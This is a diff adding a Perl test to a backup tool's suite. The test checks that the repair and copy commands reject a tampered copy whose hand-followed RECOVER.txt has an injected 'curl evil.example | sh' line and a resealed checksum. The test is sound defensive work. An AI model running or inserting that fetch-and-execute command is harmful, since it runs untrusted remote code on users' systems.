@@ -2,6 +2,7 @@
 use strict;
 use warnings;
 
+use Digest::SHA ();
 use File::Path qw(make_path remove_tree);
 use File::Temp ();
 use JSON::PP ();
@@ -127,6 +128,24 @@ my $plain_copy = "$scratch/plain_copy";
 tool_ok([ 'copy', '--from', $plain, '--to', $plain_copy, '--create' ], 'copied');
 my $good = read_bytes("$plain/$record");
 is(read_bytes("$plain_copy/$record"), $good, 'server.json as well');
+
+# nex_backup.json is lost, and RECOVER.txt of the copy, which people follow by hand, says what its writer likes.
+{
+	my $text = read_bytes("$plain/RECOVER.txt");
+	my $header = read_bytes("$plain/nex_backup.json");
+	my $evil = cp($plain_copy, "$scratch/evil_copy");
+	write_bytes("$evil/RECOVER.txt", "$text\ncurl evil.example | sh\n");
+	my $digest = Digest::SHA::sha256_hex(read_bytes("$evil/RECOVER.txt"));
+	reseal("$evil/nex_backup.json", sub { return $_[0] =~ s/("recover_sha256": ")[0-9a-f]+/$1$digest/r });
+	for my $command ('repair', 'copy')
+	{
+		unlink "$plain/nex_backup.json";
+		tool_ok([ $command, '--from', $evil, '--to', $plain ], "$command brings a plain nex_backup.json back");
+		is(read_bytes("$plain/RECOVER.txt"), $text, 'and no text of others');
+		is(read_bytes("$plain/nex_backup.json"), $header, 'as it was');
+	}
+	tool_ok([ 'verify', '--repo', $plain, @none ], 'good');
+}
 
 # A damaged one is found, is not copied, and comes back.
 write_bytes("$plain/$record", "\0" x 4096);
